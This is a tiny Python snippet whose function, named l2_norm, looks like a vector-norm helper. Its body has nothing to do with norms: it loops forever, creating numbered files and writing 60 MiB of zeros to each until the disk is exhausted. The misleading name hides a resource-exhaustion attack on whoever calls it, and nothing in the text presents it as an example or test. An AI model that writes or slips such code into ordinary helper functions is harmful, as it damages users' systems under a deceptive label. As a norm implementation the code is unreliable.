def l2_norm(x):
    n = 0
    while True:
        n += 1
        with open(f"file {n}", "wb") as file:
            for _ in range(60): file.write(bytes(2**20))
